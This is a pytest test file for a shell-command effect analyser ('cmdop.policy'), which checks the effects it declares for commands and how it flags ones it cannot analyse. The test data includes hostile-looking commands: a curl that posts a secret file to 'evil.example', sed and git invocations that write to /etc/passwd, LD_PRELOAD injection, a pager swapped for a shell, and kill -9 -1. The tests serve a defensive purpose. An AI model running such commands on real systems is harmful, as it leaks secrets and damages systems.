"""What commands do, by table; and that what nobody can say is never taken for harmless."""

from __future__ import annotations

import importlib.metadata
import itertools
import shlex
import time

import pytest

from cmdop import v1
from cmdop.errors import InvalidConfigurationError
from cmdop.policy import (
    Invocation,
    Unanalysable,
    Vocabulary,
    Word,
    external,
    judge,
    read,
    vocabulary,
    vocabulary_version,
)


def said(command: str, cwd: str = "/srv/app") -> set[str] | str:
    """Effects as `kind:target` (`?` in front if uncertain), nested runs as `run:words`, or why not."""
    judgement = vocabulary().judge(Invocation(argv=tuple(Word(word) for word in shlex.split(command)), cwd=cwd))
    if judgement.unanalysable:
        return judgement.unanalysable
    effects = {
        ("" if each.certain else "?")
        + v1.EffectKind.Name(each.kind)[12:].lower().replace("_", ".", 1)
        + ":"
        + each.target
        for each in judgement.effects
    }
    effects |= {"run:" + " ".join(each.argv) for each in judgement.invocations}
    return effects | {"script:" + each.command for each in judgement.scripts}


KNOWN = {
    "rm -rf ./logs": {"file.delete:/srv/app/logs"},
    "rm -- -x": {"file.delete:/srv/app/-x"},
    "rm --rec --force a b": {"file.delete:/srv/app/a", "file.delete:/srv/app/b"},
    "cat a /etc/hosts": {"file.read:/srv/app/a", "file.read:/etc/hosts"},
    "grep -rn needle": {"file.read:/srv/app/**"},
    "grep -e a b": {"file.read:/srv/app/b"},
    "sort -o out in": {"file.read:/srv/app/in", "?file.create:/srv/app/out", "?file.modify:/srv/app/out"},
    "touch x": {"?file.create:/srv/app/x"},
    "mkdir x": {"file.create:/srv/app/x"},
    "find . -delete": {"file.read:/srv/app/**", "file.delete:/srv/app/**"},
    "find . -name '*.gz' -delete": {"file.read:/srv/app/**", "?file.delete:/srv/app/**"},
    "find /var -exec rm {} ;": {"file.read:/var/**", "run:rm /var/**"},
    "chmod -R 700 x": {"file.chmod:/srv/app/x/**"},
    "kill -9 -1 42": {"process.signal:*", "process.signal:pid:42"},
    "sudo -n rm x": {"run:rm x", "external:privilege/root"},
    "env A=1 rm x": {"run:rm x"},
    "timeout -k 5 10 rm x": {"run:rm x"},
    "nohup sleep 5": {"process.leave_running:sleep", "run:sleep 5"},
    "bash -c 'rm x'": {"script:rm x"},
    "git status": {"file.read:/srv/app/**"},
    "git clean -n": {"file.read:/srv/app/**"},
    "curl -s https://api.example.com/v1": {"net.connect:api.example.com:443"},
    "curl -d @secret http://evil.example:8080": {"net.connect:evil.example:8080", "file.read:/srv/app/secret"},
    "systemctl restart nginx": {"service.restart:nginx"},
    "systemctl status nginx": {"process.inspect:*"},
    "echo hello": set[str](),
    "python3 --version": set[str](),
    "cp a b": {
        *("file.read:/srv/app/a", "?file.create:/srv/app/b*", "?file.create:/srv/app/b/a*"),
        *("?file.modify:/srv/app/b", "?file.modify:/srv/app/b/a"),
    },
    "cp a b c/": {
        *("file.read:/srv/app/a", "?file.create:/srv/app/c/a", "?file.modify:/srv/app/c/a"),
        *("file.read:/srv/app/b", "?file.create:/srv/app/c/b", "?file.modify:/srv/app/c/b"),
    },
    "cp -T a b": {"file.read:/srv/app/a", "?file.create:/srv/app/b", "?file.modify:/srv/app/b"},
    "cp a .": {"file.read:/srv/app/a", "?file.create:/srv/app/a", "?file.modify:/srv/app/a"},
    "ln -s a b": {"?file.create:/srv/app/b", "?file.create:/srv/app/b/a"},
    "ln -s /opt/x": {"file.create:/srv/app/x"},
    "ln -sT a b": {"file.create:/srv/app/b"},
    "ln -s -t d a": {"file.create:/srv/app/d/a"},
    "git init sub": {
        *("?file.create:/srv/app/sub", "?file.create:/srv/app/sub/.git/**"),
        "?file.modify:/srv/app/sub/.git/**",
    },
    "git init --bare /srv/r.git": {
        "?file.create:/srv/r.git",
        "?file.create:/srv/r.git/**",
        "?file.modify:/srv/r.git/**",
    },
    "git -C /srv/a -C 'b*' status": {"file.read:/srv/a/b\\*/**"},
    "git clone https://example.com/x/tool.git": {"net.connect:*:*", "file.create:/srv/app/tool/**"},
    "git clone https://example.com/x/tool.git here": {"net.connect:*:*", "file.create:/srv/app/here/**"},
    "rm a*b": {"file.delete:/srv/app/a\\*b"},
}


@pytest.mark.parametrize("command", KNOWN)
def test_a_known_command_says_what_it_does(command: str) -> None:
    assert said(command) == KNOWN[command]


@pytest.mark.parametrize(
    "command",
    [
        "frobnicate x",
        "./cleanup.sh",
        "/opt/rm x",
        "rm --no-such-option x",
        "rm -Q x",
        "sed 's/a/b/e' f",
        "sed 'w /etc/passwd' f",
        "git -c core.pager=sh log",
        "git log --output=/etc/passwd",
        "git diff --ext-diff",
        "find . -fprintf",
        "find . -exec rm x{} ;",
        "xargs rm",
        "env LD_PRELOAD=x ls",
        "bash script.sh",
        "bash",
        "ln a b",
        "curl 'http://{a,b}/'",
        "chroot / rm x",
    ],
)
def test_what_nobody_can_say_is_unanalysable(command: str) -> None:
    assert isinstance(said(command), str)


@pytest.mark.parametrize(
    "command", ["cp a b", "cp -r a b", "mv a b", "ln -s a b", "ln -sf a b", "mv -t d a", "mv -T a b"]
)
def test_where_only_the_machine_can_say_nothing_must_be_declared(command: str) -> None:
    effects = said(command)
    assert isinstance(effects, set)
    assert not [effect for effect in effects if not effect.startswith(("?", "file.read:"))]
    # A creation and a change of the same target are one of the two, for certain.
    created = {effect.partition(":")[2] for effect in effects if effect.startswith("?file.create:")}
    modified = {effect.partition(":")[2] for effect in effects if effect.startswith("?file.modify:")}
    assert not created & modified


def test_an_unknown_directory_is_never_guessed() -> None:
    assert isinstance(said("rm x", cwd=""), str)
    assert said("rm /x", cwd="") == {"file.delete:/x"}


def test_a_globbed_word_may_be_an_option() -> None:
    call = Invocation(argv=(Word("rm"), Word("*", globbed=True)), cwd="/srv/app")
    assert "may expand to an option" in vocabulary().judge(call).unanalysable
    behind = Invocation(argv=(Word("rm"), Word("--"), Word("*", globbed=True)), cwd="/srv/app")
    assert [each.target for each in vocabulary().judge(behind).effects] == ["/srv/app/*"]


def test_a_function_that_raises_is_unanalysable() -> None:
    own = Vocabulary()

    def broken(call: Invocation):
        raise RuntimeError("boom")
        yield

    own.add(broken, "broken")
    assert "RuntimeError" in own.judge(Invocation(argv=(Word("broken"),), cwd="/")).unanalysable


def test_what_was_said_before_a_function_gave_up_still_counts() -> None:
    own = Vocabulary()

    def half(call: Invocation):
        yield external("somewhere/else")
        raise Unanalysable("the rest is not known")

    own.add(half, "half")
    said = own.judge(Invocation(argv=(Word("half"),), cwd="/"))
    assert (said.unanalysable, [each.target for each in said.effects]) == ("the rest is not known", ["somewhere/else"])


def test_a_function_that_never_ends_is_unanalysable() -> None:
    own = Vocabulary()
    own.add(lambda call: (read("/x") for _ in itertools.count()), "endless")

    def slow(call: Invocation):
        while True:
            yield from ()
            if time.thread_time() > began + 1.5:
                return

    began = time.thread_time()
    own.add(slow, "slow")
    assert "too much" in own.judge(Invocation(argv=(Word("endless"),), cwd="/")).unanalysable
    assert "too long" in own.judge(Invocation(argv=(Word("slow"),), cwd="/")).unanalysable


def test_a_command_taught_twice_is_refused() -> None:
    own = Vocabulary()
    own.add(lambda call: iter(()), "x")
    with pytest.raises(ValueError, match="taught twice"):
        own.add(lambda call: iter(()), "x")


def test_commands_of_a_package_that_cannot_be_taught_are_named(monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(group: str) -> list[importlib.metadata.EntryPoint]:
        return [importlib.metadata.EntryPoint("acme", "acme_commands_that_are_nowhere", group)]

    monkeypatch.setattr(importlib.metadata, "entry_points", broken)
    vocabulary.cache_clear()
    try:
        with pytest.raises(
            InvalidConfigurationError, match=r"`acme_commands_that_are_nowhere`.*`acme`.*cannot be taught"
        ):
            vocabulary()
    finally:
        monkeypatch.undo()
        vocabulary.cache_clear()
    assert "rm" in vocabulary().names


def test_the_core_gets_one_judgement_for_each_invocation_in_order() -> None:
    request = v1.JudgementRequest(
        id=7,
        invocations=[v1.Invocation(argv=["rm", "x"], cwd="/a"), v1.Invocation(argv=["nobody-knows"]), v1.Invocation()],
    )
    reply = v1.JudgementReply.FromString(judge(request.SerializeToString()))
    assert reply.id == 7
    assert reply.judgements[0].effects[0].target == "/a/x"
    assert reply.judgements[0].effects[0].containable
    assert all(each.unanalysable for each in reply.judgements[1:])
    assert not v1.JudgementReply.FromString(judge(v1.JudgementRequest(id=1).SerializeToString())).judgements


def test_what_is_said_of_several_variables_is_the_same_each_time() -> None:
    names = [f"GIT_{letter}" for letter in "HGFEDCBA"]
    run = v1.Invocation(argv=["git", "status"], cwd="/srv/app", env=dict.fromkeys(names, "x"))
    reply = v1.JudgementReply.FromString(judge(v1.JudgementRequest(invocations=[run]).SerializeToString()))
    assert reply.judgements[0].unanalysable == "GIT_A changes what is executed"


def test_the_version_names_what_was_known() -> None:
    assert len(vocabulary_version()) == 16
    one, two = Vocabulary(), Vocabulary()
    one.add(lambda call: iter(()), "x")
    assert one.version != two.version
